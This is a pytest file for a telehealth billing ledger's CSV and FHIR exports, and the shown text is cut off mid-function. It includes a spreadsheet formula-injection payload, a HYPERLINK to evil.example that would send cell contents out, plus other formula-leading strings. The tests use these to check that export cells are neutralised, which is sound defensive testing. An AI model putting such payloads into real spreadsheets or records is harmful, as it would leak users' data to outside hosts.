"""The ledger's exports: CSV and FHIR from entries made through the real services, on SQLite and PostgreSQL; the
API and the CLI give the same bytes; a doctor sees their own records only; bad ranges are refused."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from aiohttp import ClientSession, CookieJar
from fhir.resources.R4B.bundle import Bundle
from sqlalchemy import select

from teleconsult.acts import ActCatalog, NursePlace, packaged
from teleconsult.api.keys import BILLING, CONSULTATIONS, DOCTORS, SEATS, SIGNALING
from teleconsult.app import DATABASE
from teleconsult.billing import BillingChoice, exports
from teleconsult.billing.exports import (
    CHUNK_CHARS,
    CSV_BOM,
    CSV_COLUMNS,
    NAMESPACE,
    ExportFormat,
    collect,
    csv_chunks,
    fhir_chunks,
    safe_cell,
    urn,
)
from teleconsult.clock import paris_date
from teleconsult.consultations import NewConsultation
from teleconsult.domain import BillingAct, BillingLine, BillingRecord, BillingStatus, Doctor, Modifier, Nurse
from teleconsult.ids import BillingRecordId, ConsultationId, DoctorId
from teleconsult.store import billing as store
from teleconsult.store.models import Participant
from tests.conftest import DOCTOR_PASSWORD, DOCTOR_RPPS, Running, make_settings, start_server

OTHER_EMAIL = "dr.bernard@example.org"
OTHER_RPPS = "20202020202"
NURSE_NUMBER = "10003456789"
FORMULA_PATIENT = '=HYPERLINK("http://evil.example/?"&A1;"Jeanne")'
CHILD_BIRTH = date(2022, 5, 12)


def valid_nir(first13: str) -> str:
    return first13 + f"{97 - int(first13) % 97:02d}"


NIR = valid_nir("2220575056123")


def catalog_with_majoration() -> str:
    """The packaged acts with MEG confirmed (the shipped file leaves every majoration unconfirmed)."""
    text = (Path(__file__).resolve().parent.parent / "teleconsult" / "data" / "acts.toml").read_text(encoding="utf-8")
    head, meg = text.split('code = "MEG"', 1)
    meg_block, rest = meg.split("[[code]]", 1)
    return head + 'code = "MEG"' + meg_block.replace("confirmed = false", "confirmed = true") + "[[code]]" + rest


@dataclass
class Ledger:
    live: Running
    doctor: Doctor
    other: Doctor
    #: consultation ids: with a nurse and a majoration; corrected to not billable; a no-show; the other doctor's.
    nurse_and_majoration: str
    corrected: str
    no_show: str
    others: str
    first: date
    last: date


async def _admitted(live: Running, doctor: Doctor, new: NewConsultation, *, video: bool = True) -> str:
    app = live.app
    created = await app[CONSULTATIONS].create(doctor, new)
    cid = created.consultation.id
    async with app[DATABASE].transaction() as tx:
        seats = (await tx.execute(select(Participant).where(Participant.consultation_id == cid))).scalars().all()
    for seat in seats:
        await app[SEATS].participant_admitted(seat.id, cid, in_progress=True)
    if video:
        await app[CONSULTATIONS].video_connected(cid, "p_patient", "p_doctor")
    return cid


@pytest.fixture
async def ledger(tmp_path: Path, database_url: str) -> AsyncIterator[Ledger]:
    acts_file = tmp_path / "acts.toml"
    acts_file.write_text(catalog_with_majoration(), encoding="utf-8")
    live = await start_server(make_settings(tmp_path, database_url=database_url, acts_file=acts_file))
    try:
        app = live.app
        doctor = await app[DOCTORS].doctor_by_email(live.doctor_email)
        assert doctor is not None
        other = await app[DOCTORS].create_doctor(
            email=OTHER_EMAIL, name="Dr Bruno Bernard", rpps=OTHER_RPPS, password=DOCTOR_PASSWORD
        )
        signaling = app[SIGNALING]

        nursed = await _admitted(
            live,
            doctor,
            NewConsultation("Léa Dupont", "lea@example.org", nurse_name="Inès Robert", nurse_email="ines@example.org"),
        )
        choice = BillingChoice(
            majorations=("MEG",),
            nurse_place=NursePlace.HOME,
            nurse_number=NURSE_NUMBER,
            patient_birth_date=CHILD_BIRTH,
            patient_nir=NIR,
        )
        await signaling.end_consultation(nursed, doctor.id, choice)

        corrected = await _admitted(live, doctor, NewConsultation(FORMULA_PATIENT, "x@example.org"))
        await signaling.end_consultation(corrected, doctor.id)
        await app[BILLING].correct(
            doctor,
            corrected,
            BillingChoice(status=BillingStatus.NOT_BILLABLE, reason='-1 offert; "geste" commercial\nsuite'),
        )

        created = await app[CONSULTATIONS].create(doctor, NewConsultation("Paul Absent", "paul@example.org"))
        no_show = created.consultation.id
        await signaling.end_consultation(no_show, doctor.id)

        others = await _admitted(live, other, NewConsultation("Zoé Autre", "zoe@example.org"))
        await signaling.end_consultation(others, other.id)

        today = paris_date(datetime.now(UTC))
        yield Ledger(
            live,
            doctor,
            other,
            nursed,
            corrected,
            no_show,
            others,
            today - timedelta(days=1),
            today + timedelta(days=1),
        )
    finally:
        await live.server.close()


async def _download(
    ledger: Ledger, fmt: str, *, email: str = "dr.martin@example.org", **query: str
) -> tuple[int, dict[str, str], bytes]:
    async with ClientSession(base_url=ledger.live.url, cookie_jar=CookieJar(unsafe=True)) as session:
        login = await session.post("/api/login", json={"email": email, "password": DOCTOR_PASSWORD})
        assert login.status == 200
        params = {"from": ledger.first.isoformat(), "to": ledger.last.isoformat(), "format": fmt} | query
        response = await session.get("/api/billing/export", params=params)
        return response.status, dict(response.headers), await response.read()


def _rows(body: bytes) -> list[dict[str, str]]:
    text = body.decode("utf-8")
    assert text.startswith(CSV_BOM)
    reader = csv.DictReader(io.StringIO(text.removeprefix(CSV_BOM), newline=""), delimiter=";", strict=True)
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return list(reader)


def _euros(cell: str) -> int:
    whole, cents = cell.split(",")
    return int(whole) * 100 + int(cents)


# --- CSV -----------------------------------------------------------------------------------------------------------


async def test_the_csv_parses_back_to_the_current_entries_acts_and_amounts(ledger: Ledger) -> None:
    status, headers, body = await _download(ledger, "csv")
    assert status == 200, body
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    name = f"teleconsult-{ledger.first.isoformat()}-{ledger.last.isoformat()}.csv"
    assert headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert headers["Cache-Control"] == "no-store"
    assert body.replace(b"\r\n", b"").count(b"\n") == 1  # CRLF line ends; the one LF is the reason's, in its cell
    rows = _rows(body)
    by_consultation: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_consultation.setdefault(row["Consultation"], []).append(row)
    assert set(by_consultation) == {ledger.nurse_and_majoration, ledger.corrected, ledger.no_show}

    # Every act and amount of the ledger's current entries, as the service has them.
    for cid, its_rows in by_consultation.items():
        current = (await ledger.live.app[BILLING].entries(ledger.doctor, cid))[-1]
        assert {row["Écriture"] for row in its_rows} == {current.id}
        assert [r["Révision"] for r in its_rows] == [str(current.revision)] * len(its_rows)
        if not current.acts:
            assert [(r["Code acte"], r["Montant acte (€)"], r["Total acte (€)"]) for r in its_rows] == [
                ("", "0,00", "0,00")
            ]
            continue
        assert [
            (r["Code acte"], _euros(r["Montant acte (€)"]), r["Majorations"], _euros(r["Total acte (€)"]))
            for r in its_rows
        ] == [(a.act_code, a.amount_cents, "+".join(m.code for m in a.modifiers), a.total_cents) for a in current.acts]
        assert sum(_euros(r["Total acte (€)"]) for r in its_rows) == current.total_cents

    nursed = by_consultation[ledger.nurse_and_majoration]
    doctor_row, nurse_row = nursed
    assert (doctor_row["Rôle"], doctor_row["Code acte"], doctor_row["Montant acte (€)"]) == ("doctor", "TCG", "25,00")
    assert (doctor_row["Majorations"], doctor_row["Montant majorations (€)"]) == ("MEG", "5,00")
    assert doctor_row["Total acte (€)"] == "30,00" and doctor_row["Tarif du"] == "2018-09-15"
    assert doctor_row["Libellé acte"] == packaged().tariff("TCG", date(2026, 1, 1)).label_fr
    assert (nurse_row["Rôle"], nurse_row["Code acte"], nurse_row["Montant acte (€)"]) == ("nurse", "TLD", "15,00")
    assert (nurse_row["Infirmière"], nurse_row["N° infirmière"], nurse_row["Lieu infirmière"]) == (
        "Inès Robert",
        NURSE_NUMBER,
        "home",
    )
    assert nurse_row["Date de naissance"] == CHILD_BIRTH.isoformat() and nurse_row["NIR"] == NIR
    assert doctor_row["Vidéo"] == "oui" and doctor_row["RPPS médecin"] == DOCTOR_RPPS
    started = datetime.fromisoformat(doctor_row["Début"])  # Paris wall clock, to the second
    assert started.date() == date.fromisoformat(doctor_row["Date"])
    assert int(doctor_row["Durée (s)"]) >= 0

    (corrected,) = by_consultation[ledger.corrected]
    original = (await ledger.live.app[BILLING].entries(ledger.doctor, ledger.corrected))[0]
    assert (corrected["Statut"], corrected["Révision"], corrected["Corrige"]) == ("not_billable", "1", original.id)
    assert corrected["Motif"] == '\'-1 offert; "geste" commercial\nsuite'  # neutralised, quoted, kept whole
    assert corrected["Patient"] == "'" + FORMULA_PATIENT  # a formula never reaches the spreadsheet as one

    (absent,) = by_consultation[ledger.no_show]
    assert (absent["Statut"], absent["Motif"], absent["Code acte"]) == ("no_show", "patient_never_joined", "")
    assert (absent["Début"], absent["Vidéo"]) == ("", "non")


async def test_another_doctors_records_never_appear(ledger: Ledger) -> None:
    mine = (await _download(ledger, "csv"))[2] + (await _download(ledger, "fhir"))[2]
    theirs_csv = (await _download(ledger, "csv", email=OTHER_EMAIL))[2]
    theirs_fhir = (await _download(ledger, "fhir", email=OTHER_EMAIL))[2]
    assert ledger.others.encode() not in mine and OTHER_RPPS.encode() not in mine
    assert [row["Consultation"] for row in _rows(theirs_csv)] == [ledger.others]
    for cid in (ledger.nurse_and_majoration, ledger.corrected, ledger.no_show):
        assert cid.encode() not in theirs_csv + theirs_fhir


# --- FHIR ----------------------------------------------------------------------------------------------------------


async def test_the_fhir_bundle_is_valid_r4_and_its_charge_items_add_up(ledger: Ledger) -> None:
    status, headers, body = await _download(ledger, "fhir")
    assert status == 200 and headers["Content-Type"] == "application/fhir+json"
    assert headers["Content-Disposition"].endswith('.json"')
    bundle = Bundle.model_validate_json(body)
    assert bundle.type == "collection"
    document = json.loads(body)
    resources = [entry["resource"] for entry in document["entry"]]
    full_urls = [entry["fullUrl"] for entry in document["entry"]]
    assert len(set(full_urls)) == len(full_urls) and all(url.startswith("urn:uuid:") for url in full_urls)
    assert all(entry["fullUrl"] == "urn:uuid:" + entry["resource"]["id"] for entry in document["entry"])
    of_kind: dict[str, list[dict[str, Any]]] = {}
    for resource in resources:
        of_kind.setdefault(resource["resourceType"], []).append(resource)
    assert len(of_kind["Encounter"]) == len(of_kind["Patient"]) == 3

    encounters = {e["identifier"][0]["value"]: e for e in of_kind["Encounter"]}
    assert set(encounters) == {ledger.nurse_and_majoration, ledger.corrected, ledger.no_show}
    for encounter in encounters.values():
        assert encounter["class"]["code"] == "VR"
        assert encounter["class"]["system"] == "http://terminology.hl7.org/CodeSystem/v3-ActCode"
    assert encounters[ledger.no_show]["status"] == "cancelled" and "start" not in encounters[ledger.no_show]["period"]
    assert encounters[ledger.nurse_and_majoration]["status"] == "finished"

    practitioners = of_kind["Practitioner"]
    doctor = next(p for p in practitioners if p["name"][0]["text"] == ledger.doctor.name)
    assert {(i["system"], i["value"]) for i in doctor["identifier"]} == {
        ("urn:oid:1.2.250.1.71.4.2.1", "8" + DOCTOR_RPPS),
        ("https://rpps.esante.gouv.fr", DOCTOR_RPPS),
    }
    nurse = next(p for p in practitioners if p["name"][0]["text"] == "Inès Robert")
    assert nurse["identifier"][0]["value"] == "8" + NURSE_NUMBER
    assert len(practitioners) == 2  # the doctor once, however many consultations

    patients = {p["id"]: p for p in of_kind["Patient"]}
    child = next(p for p in patients.values() if p["name"][0]["text"] == "Léa Dupont")
    assert child["birthDate"] == CHILD_BIRTH.isoformat()
    assert child["identifier"] == [
        {
            "use": "official",
            "type": {
                "coding": [{"system": "https://hl7.fr/ig/fhir/core/CodeSystem/fr-core-cs-v2-0203", "code": "INS-NIR"}]
            },
            "system": "urn:oid:1.2.250.1.213.1.4.8",
            "value": NIR,
        }
    ]
    assert all("identifier" not in p for p in patients.values() if p is not child)

    charges = of_kind["ChargeItem"]
    billable = [c for c in charges if c["status"] == "billable"]
    assert sorted(c["code"]["coding"][0]["code"] for c in billable) == ["MEG", "TCG", "TLD"]
    current = (await ledger.live.app[BILLING].entries(ledger.doctor, ledger.nurse_and_majoration))[-1]
    assert sum(round(c["priceOverride"]["value"] * 100) for c in billable) == current.total_cents == 2500 + 500 + 1500
    assert all(c["priceOverride"]["currency"] == "EUR" and c["quantity"]["value"] == 1 for c in charges)
    tcg = next(c for c in billable if c["code"]["coding"][0]["code"] == "TCG")
    meg = next(c for c in billable if c["code"]["coding"][0]["code"] == "MEG")
    assert meg["partOf"][0]["reference"] == "urn:uuid:" + tcg["id"]
    tld = next(c for c in billable if c["code"]["coding"][0]["code"] == "TLD")
    assert tld["performer"][0]["actor"]["reference"] == "urn:uuid:" + nurse["id"]
    assert tcg["context"]["reference"] == "urn:uuid:" + encounters[ledger.nurse_and_majoration]["id"]
    not_billable = {c["code"]["coding"][0]["code"]: c for c in charges if c["status"] == "not-billable"}
    assert set(not_billable) == {"not_billable", "no_show"}
    assert not_billable["no_show"]["note"] == [{"text": "patient_never_joined"}]
    assert all(c["priceOverride"]["value"] == 0 for c in not_billable.values())


# --- the same bytes ------------------------------------------------------------------------------------------------


def _cli(ledger: Ledger, fmt: str, *extra: str) -> subprocess.CompletedProcess[bytes]:
    settings = ledger.live.settings
    env = {k: v for k, v in os.environ.items() if not k.startswith("TELECONSULT_")}
    command = [
        sys.executable,
        "-m",
        "teleconsult",
        "billing",
        "export",
        "--from",
        ledger.first.isoformat(),
        "--to",
        ledger.last.isoformat(),
        "--format",
        fmt,
        "--data-dir",
        str(settings.server.data_dir),
        "--database-url",
        settings.database_url,
        *extra,
    ]
    return subprocess.run(command, capture_output=True, timeout=60, env=env, check=False)


@pytest.mark.parametrize("fmt", ["csv", "fhir"])
async def test_the_api_and_the_cli_give_the_same_bytes(ledger: Ledger, tmp_path: Path, fmt: str) -> None:
    _, _, over_http = await _download(ledger, fmt)
    assert (await _download(ledger, fmt))[2] == over_http  # the same range twice: the same bytes
    out = tmp_path / "out" / f"export.{fmt}"
    out.parent.mkdir()
    written = await asyncio.to_thread(_cli, ledger, fmt, "--doctor", DOCTOR_RPPS, "--out", str(out))
    assert written.returncode == 0, written.stderr
    assert out.read_bytes() == over_http
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and not list(out.parent.glob("*.part"))
    printed = await asyncio.to_thread(_cli, ledger, fmt, "--doctor", DOCTOR_RPPS)
    assert printed.returncode == 0, printed.stderr
    assert printed.stdout == over_http


async def test_the_cli_without_a_doctor_exports_every_doctors_records(ledger: Ledger, tmp_path: Path) -> None:
    result = await asyncio.to_thread(_cli, ledger, "csv")
    assert result.returncode == 0, result.stderr
    exported = {row["Consultation"] for row in _rows(result.stdout)}
    assert exported == {ledger.nurse_and_majoration, ledger.corrected, ledger.no_show, ledger.others}
    argv = ["--data-dir", str(tmp_path), "billing", "export", "--from", "2026-11-30", "--to", "2026-11-01"]
    backwards = await asyncio.to_thread(
        subprocess.run, [sys.executable, "-m", "teleconsult", *argv], capture_output=True, check=False
    )
    assert backwards.returncode == 2 and b"before" in backwards.stderr


# --- the request checked ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"from": "2026-11-01", "to": "2026-11-31"}, "to"),
        ({"from": "01/11/2026", "to": "2026-11-30"}, "from"),
        ({"from": "2026-W44-7", "to": "2026-11-30"}, "from"),
        ({"to": "2026-11-30"}, "from"),
        ({"from": "2026-11-30", "to": "2026-11-01"}, "to"),
        ({"from": "2026-01-01", "to": "2027-01-02"}, "to"),
        ({"from": "2026-11-01", "to": "2026-11-30", "format": "xml"}, "format"),
    ],
)
async def test_a_bad_range_or_format_is_a_400_naming_the_field(
    running: Running, query: dict[str, str], field: str
) -> None:
    async with ClientSession(base_url=running.url, cookie_jar=CookieJar(unsafe=True)) as session:
        assert (await session.get("/api/billing/export", params=query)).status == 401
        await session.post("/api/login", json={"email": running.doctor_email, "password": running.doctor_password})
        response = await session.get("/api/billing/export", params={"format": "csv"} | query)
        assert response.status == 400
        assert (await response.json()) | {"message": ""} == {"error": "bad_request", "field": field, "message": ""}


async def test_a_leap_year_exports_whole(running: Running) -> None:
    async with ClientSession(base_url=running.url, cookie_jar=CookieJar(unsafe=True)) as session:
        await session.post("/api/login", json={"email": running.doctor_email, "password": running.doctor_password})
        response = await session.get("/api/billing/export", params={"from": "2028-01-01", "to": "2028-12-31"})
        assert response.status == 200  # 366 days, and csv by default
        assert _rows(await response.read()) == []


# --- the formats, without a database -----------------------------------------------------------------------------


def _record(n: int, **changes: Any) -> BillingRecord:
    started = datetime(2026, 3, 29, 0, 30, tzinfo=UTC) + timedelta(minutes=n)  # across the spring change of time
    record = BillingRecord(
        id=BillingRecordId(f"b_{n:06d}"),
        consultation_id=ConsultationId(f"c_{n:06d}"),
        revision=0,
        corrects=None,
        status=BillingStatus.COMPLETED,
        reason=None,
        act_date=paris_date(started),
        doctor_id=DoctorId("d_1"),
        doctor_name="Dr Alice Martin",
        doctor_rpps=DOCTOR_RPPS,
        patient_name=f"Patient {n}",
        patient_birth_date=None,
        patient_nir=None,
        nurse=None,
        scheduled_at=None,
        started_at=started,
        ended_at=started + timedelta(minutes=12),
        duration_s=720,
        video_connected=True,
        total_cents=2500,
        currency="EUR",
        acts=(BillingAct("doctor", "Dr Alice Martin", "TCG", 2500, date(2018, 9, 15)),),
        recorded_at=started + timedelta(minutes=12),
        recorded_by="doctor:d_1",
    )
    return replace(record, **changes)


async def _records(records: list[BillingRecord]) -> AsyncIterator[BillingRecord]:
    for record in records:
        yield record


async def test_the_csv_streams_in_chunks_with_paris_times_and_french_amounts() -> None:
    records = [_record(n) for n in range(3000)]
    chunks = [chunk async for chunk in csv_chunks(_records(records), ActCatalog.load())]
    assert len(chunks) > 3 and all(len(c) < 2 * CHUNK_CHARS * 4 for c in chunks)  # streamed, never all at once
    rows = _rows(b"".join(chunks))
    assert len(rows) == 3000 and {r["Montant acte (€)"] for r in rows} == {"25,00"}
    assert rows[0]["Début"] == "2026-03-29 01:30:00" and rows[0]["Date"] == "2026-03-29"  # UTC+1 before 01:00 UTC
    assert rows[60]["Début"] == "2026-03-29 03:30:00"  # UTC+2 after


async def test_an_unknown_act_code_and_an_empty_range_still_export() -> None:
    odd = _record(
        1, acts=(BillingAct("doctor", "Dr A", "XYZ", 100, date(2020, 1, 1), (Modifier("MZZ", 5, date(2020, 1, 1)),)),)
    )
    rows = _rows(await collect(csv_chunks(_records([odd]), ActCatalog.load())))
    assert (rows[0]["Code acte"], rows[0]["Libellé acte"], rows[0]["Total acte (€)"]) == ("XYZ", "", "1,05")
    Bundle.model_validate_json(
        await collect(fhir_chunks(_records([odd]), ActCatalog.load(), first=date(2026, 1, 1), last=date(2026, 1, 1)))
    )
    assert _rows(await collect(csv_chunks(_records([]), ActCatalog.load()))) == []
    empty = await collect(fhir_chunks(_records([]), ActCatalog.load(), first=date(2026, 1, 1), last=date(2026, 1, 31)))
    assert "entry" not in json.loads(empty)  # FHIR allows no empty array
    Bundle.model_validate_json(empty)


async def test_the_fhir_ids_are_stable_and_a_nurse_without_a_number_is_named_only() -> None:
    nursed = _record(
        2,
        nurse=Nurse("Inès Robert", None, "planned_visit"),
        acts=(
            BillingAct("doctor", "Dr Alice Martin", "TCG", 2500, date(2018, 9, 15)),
            BillingAct("nurse", "Inès Robert", "TLS", 1000, date(2020, 1, 1)),
        ),
        total_cents=3500,
    )
    catalog = ActCatalog.load()
    first = await collect(
        fhir_chunks(_records([_record(1), nursed]), catalog, first=date(2026, 3, 1), last=date(2026, 3, 31))
    )
    again = await collect(
        fhir_chunks(_records([_record(1), nursed]), catalog, first=date(2026, 3, 1), last=date(2026, 3, 31))
    )
    assert first == again
    Bundle.model_validate_json(first)
    resources = [e["resource"] for e in json.loads(first)["entry"]]
    assert [r["resourceType"] for r in resources].count("Practitioner") == 1
    tls = next(r for r in resources if r["resourceType"] == "ChargeItem" and r["code"]["coding"][0]["code"] == "TLS")
    assert tls["performer"] == [{"actor": {"display": "Inès Robert"}}]
    other_month = await collect(
        fhir_chunks(_records([_record(1)]), catalog, first=date(2026, 4, 1), last=date(2026, 4, 30))
    )
    assert json.loads(other_month)["id"] != json.loads(first)["id"]


def _reference_csv(records: list[BillingRecord], catalog: ActCatalog) -> bytes:
    """The CSV as the csv module writes it, cell by cell (what the export wrote before it wrote its lines itself:
    the fast path must give the same bytes)."""
    labels = exports._Labels(catalog)
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    buffer.write(CSV_BOM)
    writer.writerow(CSV_COLUMNS)
    for r in records:
        nurse = r.nurse
        head = [
            r.act_date.isoformat(),
            r.consultation_id,
            r.id,
            str(r.revision),
            r.corrects or "",
            r.status.value,
            safe_cell(r.reason),
            safe_cell(r.doctor_name),
            safe_cell(r.doctor_rpps),
            safe_cell(r.patient_name),
            r.patient_birth_date.isoformat() if r.patient_birth_date else "",
            safe_cell(r.patient_nir),
            safe_cell(nurse.name) if nurse else "",
            safe_cell(nurse.number) if nurse else "",
            nurse.place if nurse else "",
        ]
        times = [exports.paris_time(t) for t in (r.scheduled_at, r.started_at, r.ended_at)]
        tail = [*times, str(r.duration_s), "oui" if r.video_connected else "non"]
        if not r.acts:
            writer.writerow([*head, "", "", "", "", "0,00", "", "", "0,00", "0,00", *tail])
        for act in r.acts:
            extra = sum(m.amount_cents for m in act.modifiers)
            writer.writerow(
                [
                    *head,
                    act.role,
                    safe_cell(act.performer_name),
                    safe_cell(act.act_code),
                    safe_cell(labels(act.act_code, act.tariff_from)),
                    exports.euros(act.amount_cents),
                    act.tariff_from.isoformat(),
                    safe_cell("+".join(m.code for m in act.modifiers)) if act.modifiers else "",
                    exports.euros(extra),
                    exports.euros(act.amount_cents + extra),
                    *tail,
                ]
            )
    return buffer.getvalue().encode("utf-8")


ODD_TEXTS = [
    "Jeanne Dupont",
    "Dupont; Jeanne",
    'Jeanne "Jo" Dupont',
    "Jeanne\nDupont",
    "Jeanne\rDupont",
    "Jeanne\r\nDupont",
    "=HYPERLINK(1)",
    "+33 6",
    "-1",
    "@x",
    "\tx",
    "\rx",
    " Jeanne ",
    "nul\0byte",
    "back\\slash",
    "\u2028 \x7f \xa0",
    '";"',
    "",
    "é ß 東京 🙂",
]
ODD_TIMES = [
    datetime(2026, 3, 29, 0, 59, 59, 999999, tzinfo=UTC),  # the spring change, either side
    datetime(2026, 3, 29, 1, 0, tzinfo=UTC),
    datetime(2026, 10, 25, 0, 30, tzinfo=UTC),  # the autumn one: 02:30 twice in Paris
    datetime(2026, 10, 25, 1, 30, tzinfo=UTC),
    datetime(2026, 12, 31, 23, 30, 1, tzinfo=UTC),  # the next day and year in Paris
    datetime(2026, 7, 1, 12, 0, 5),  # naive: taken as UTC
    datetime(2026, 7, 1, 8, 0, 5, tzinfo=ZoneInfo("America/New_York")),
    datetime(2026, 7, 1, 8, 0, 5, tzinfo=timezone(timedelta(hours=5, minutes=30))),
    datetime(1900, 6, 1, 12, 0, tzinfo=UTC),  # Paris mean time, 9 min 21 s from UTC: converted one by one
]


def _odd_records() -> list[BillingRecord]:
    """Records with every kind of cell text, time and act the CSV has to write as the csv module would."""
    found = []
    for n in range(300):
        text = ODD_TEXTS[n % len(ODD_TEXTS)]
        other = ODD_TEXTS[(n * 7 + 3) % len(ODD_TEXTS)]
        moment = ODD_TIMES[n % len(ODD_TIMES)]
        modifiers = (Modifier("MEG", 500, date(2018, 9, 15)), Modifier(other or "MZZ", -5, date(2020, 1, 1)))
        acts = (
            BillingAct("doctor", text or "Dr A", ["TCG", "XYZ", "=1"][n % 3], 2500 - n, date(2018, 9, 15)),
            BillingAct("nurse", other, "TLS", 1000, date(2020, 1, 1), modifiers[: n % 3]),
            BillingAct("doctor", f"Dr {n}", "TCG", -150, date(2018, 9, 15), modifiers[:1]),  # a new performer each
        )[: n % 4]
        found.append(
            _record(
                n,
                revision=n % 3,
                corrects=BillingRecordId(f"b_{n - 1:06d}") if n % 3 else None,
                status=list(BillingStatus)[n % 4],
                reason=other or None,
                patient_name=text,
                doctor_name=other,
                doctor_rpps=text,
                patient_birth_date=date(1950 + n % 60, 1 + n % 12, 1 + n % 28) if n % 2 else None,
                patient_nir=other or None,
                nurse=[
                    None,
                    Nurse(text, [other or None, "12345678901", "1234", None][n % 4], ["home", "", "x"][n % 3]),
                ][n % 2],
                scheduled_at=moment if n % 5 else None,
                started_at=moment + timedelta(seconds=n) if n % 6 else None,
                ended_at=moment + timedelta(minutes=n),
                recorded_at=moment + timedelta(minutes=n, seconds=n % 2),  # the same as the end, or not
                duration_s=n * 11,
                video_connected=bool(n % 2),
                acts=acts,
            )
        )
    return found


async def test_the_csv_is_byte_for_byte_what_the_csv_module_writes() -> None:
    records = _odd_records() + [_record(n) for n in range(300, 3000)]  # and enough for many chunks
    catalog = ActCatalog.load()
    assert await collect(csv_chunks(_records(records), catalog)) == _reference_csv(records, catalog)


# The FHIR Bundle as the encoder writes it from the entries' objects (what the export wrote before it wrote its
# entries as text itself: the fast path must give the same bytes).


def _ref_urn(name: str) -> str:
    return f"urn:uuid:{uuid.uuid5(NAMESPACE, name)}"


class _RefPractitioners:
    """Each practitioner's entry once per Bundle (doctors by RPPS, nurses by number)."""

    def __init__(self) -> None:
        self._seen: set[str] = set()

    def doctor(self, record: BillingRecord) -> tuple[str, dict[str, Any] | None]:
        full_url = _ref_urn(f"practitioner:rpps:{record.doctor_rpps}")
        if full_url in self._seen:
            return full_url, None
        self._seen.add(full_url)
        identifiers = [
            exports._identifier(exports.IDNPS_SYSTEM, "8" + record.doctor_rpps, "IDNPS"),
            exports._identifier(exports.RPPS_SYSTEM, record.doctor_rpps, "RPPS"),
        ]
        return full_url, exports._practitioner(full_url, identifiers, record.doctor_name)

    def nurse(self, name: str, number: str) -> tuple[str, dict[str, Any] | None]:
        full_url = _ref_urn(f"practitioner:nurse:{number}")
        if full_url in self._seen:
            return full_url, None
        self._seen.add(full_url)
        return full_url, exports._practitioner(full_url, [exports.nurse_identifier(number)], name)


def _ref_entries(record: BillingRecord, practitioners: _RefPractitioners, label: Any) -> Iterator[dict[str, Any]]:
    """The Bundle entries of one ledger entry: practitioners not yet in the Bundle, the Patient, the Encounter and
    its ChargeItems."""
    entry = record.id
    patient_url = _ref_urn(f"{entry}/patient")
    encounter_url = _ref_urn(f"{entry}/encounter")
    doctor_url, doctor_entry = practitioners.doctor(record)
    if doctor_entry is not None:
        yield doctor_entry
    nurse = record.nurse
    nurse_ref: dict[str, Any] | None = None
    if nurse is not None:
        if nurse.number:
            nurse_url, nurse_entry = practitioners.nurse(nurse.name, nurse.number)
            if nurse_entry is not None:
                yield nurse_entry
            nurse_ref = exports._ref(nurse_url, "Practitioner", nurse.name)
        else:
            nurse_ref = {"display": nurse.name}  # no number: named, without a Practitioner of her own
    doctor_ref = exports._ref(doctor_url, "Practitioner", record.doctor_name)

    patient: dict[str, Any] = {"resourceType": "Patient", "id": patient_url.removeprefix("urn:uuid:")}
    if record.patient_nir:
        patient["identifier"] = [exports._identifier(exports.INS_NIR_SYSTEM, record.patient_nir, "INS-NIR")]
    patient["name"] = [{"text": record.patient_name}]
    if record.patient_birth_date is not None:
        patient["birthDate"] = record.patient_birth_date.isoformat()
    yield {"fullUrl": patient_url, "resource": patient}

    participants = [{"type": [exports._participation("PPRF", "primary performer")], "individual": doctor_ref}]
    if nurse_ref is not None:
        participants.append({"type": [exports._participation("SPRF", "secondary performer")], "individual": nurse_ref})
    ended = exports.fhir_instant(record.ended_at)
    started = exports.fhir_instant(record.started_at) if record.started_at is not None else None
    period = {"start": started, "end": ended} if started is not None else {"end": ended}
    encounter: dict[str, Any] = {
        "resourceType": "Encounter",
        "id": encounter_url.removeprefix("urn:uuid:"),
        "identifier": [{"system": exports.CONSULTATION_SYSTEM, "value": record.consultation_id}],
        "status": exports.ENCOUNTER_STATUS[record.status],
        "class": {"system": exports.ACT_CODE_SYSTEM, "code": "VR", "display": "virtual"},
        "subject": exports._ref(patient_url, "Patient", record.patient_name),
        "participant": participants,
        "period": period,
        "length": {"value": record.duration_s, "unit": "s", "system": "http://unitsofmeasure.org", "code": "s"},
    }
    yield {"fullUrl": encounter_url, "resource": encounter}

    common = {
        "subject": exports._ref(patient_url, "Patient", record.patient_name),
        "context": exports._ref(encounter_url, "Encounter"),
        "occurrenceDateTime": started or ended,
        "enteredDate": ended if record.recorded_at == record.ended_at else exports.fhir_instant(record.recorded_at),
    }
    if not record.acts:
        yield _ref_no_act(record, common)
        return
    for position, act in enumerate(record.acts):
        performer = nurse_ref if act.role == "nurse" and nurse_ref is not None else doctor_ref
        yield from _ref_charges(record, position, act, performer, common, label)


def _ref_charges(
    record: BillingRecord,
    position: int,
    act: BillingAct,
    performer: dict[str, Any],
    common: dict[str, Any],
    label: Any,
) -> Iterator[dict[str, Any]]:
    """The act's ChargeItem, then one per majoration, ``partOf`` the act's."""
    act_url = _ref_urn(f"{record.id}/act/{position}")
    note = f"Tarif en vigueur depuis le {act.tariff_from.isoformat()}"
    if record.nurse is not None and act.role == "nurse":
        note += f"; infirmière {exports.NURSE_PLACES.get(record.nurse.place, record.nurse.place)}"
    yield _ref_charge_item(
        act_url,
        identifier=f"{record.id}/{position}",
        code=exports._ngap(act.act_code, act.tariff_from, label),
        cents=act.amount_cents,
        performer=performer,
        common=common,
        note=note,
    )
    for index, modifier in enumerate(act.modifiers):
        yield _ref_charge_item(
            _ref_urn(f"{record.id}/act/{position}/modifier/{index}"),
            identifier=f"{record.id}/{position}/{modifier.code}",
            code=exports._ngap(modifier.code, modifier.tariff_from, label),
            cents=modifier.amount_cents,
            performer=performer,
            common=common,
            note=f"Majoration de {act.act_code}; tarif en vigueur depuis le {modifier.tariff_from.isoformat()}",
            part_of=act_url,
        )


def _ref_charge_item(
